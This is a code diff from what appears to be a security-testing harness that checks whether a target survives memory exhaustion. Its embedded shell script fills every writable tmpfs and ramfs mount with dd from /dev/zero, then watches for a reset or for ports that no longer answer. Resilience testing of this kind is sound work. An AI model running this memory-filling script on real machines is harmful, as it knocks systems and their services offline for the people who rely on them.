@@ -15,14 +15,16 @@ FILLS = 90.0
 """Seconds for a file system that takes half of the memory, on a busy machine too."""
 SETTLES = 15.0
 """Seconds in which the kernel ends what it ends for want of memory."""
-SECONDS = 6.0
+SECONDS = 10.0
+"""For one port."""
+END = "filled"
 CODE = """\
 while read -r _ place kind _; do
 	case $kind in tmpfs | ramfs) ;; *) continue ;; esac
 	for folder in "$place" "$place"/*; do
 		[ -d "$folder" ] && [ -w "$folder" ] || continue
 		echo "$folder"
-		dd if=/dev/zero of="$folder/{word}" bs=64k >/dev/null 2>&1 &
+		dd if=/dev/zero of="$folder/{name}" bs=64k >/dev/null 2>&1 &
 	done
 done </proc/mounts
 wait
@@ -35,29 +37,31 @@ def run(target: Target) -> Result:
     with taken(target, (BROKER,)) as service:
         powered = service.powered
         forwards = [Forward(port, powered.address(port)[1]) for port in PORTS]
-        if len(_answering(forwards)) < len(PORTS):
+        if silent(forwards):
             raise Unseen(f"ports {_listed(PORTS)} do not all answer even before the attack")
         resets = powered.resets
-        said = service.run(CODE.format(word=f"filled-{target.challenge.first}"), FILLS)
+        said = service.run(CODE.format(name=f"filled-{target.challenge.first}"), FILLS)
         target.note(Witness.ATTACKER, f"writes until no more is taken: {_places(said)}")
         if _is_down(powered, forwards, resets):
             return Result.SUCCEEDED
-        if "filled\n" not in said:
+        if END not in said.splitlines():
             raise Unseen("his code did not come to its end")
         return service.goes_on(f"all is full, ports {_listed(PORTS)} answer as before")
 
 
-def _is_down(powered: Powered, forwards: list[Forward], resets: int) -> bool:
+def _is_down(powered: Powered, forwards: Iterable[Forward], resets: int) -> bool:
     """Seen from outside: the machine was reset, or a port that answered does not any more."""
-    powered.until(lambda: powered.resets > resets, SETTLES)
-    dead = sorted({one.port for one in forwards} - _answering(forwards))
+    if powered.until(lambda: powered.resets > resets, SETTLES):
+        return True
+    dead = silent(forwards)
     if dead:
         powered.target.note(Witness.NETWORK, f"nothing answers any more on {_listed(dead)}, and did before")
-    return bool(dead) or powered.resets > resets
+    return bool(dead)
 
 
-def _answering(forwards: list[Forward]) -> set[int]:
-    return {one.port for one in reach.call(forwards, SECONDS) if one.answers}
+def silent(forwards: Iterable[Forward], seconds: float = SECONDS) -> list[int]:
+    """The ports on which nothing answers."""
+    return [one.port for one in reach.call(forwards, seconds) if not one.answers]
 
 
 def _listed(ports: Iterable[int]) -> str:
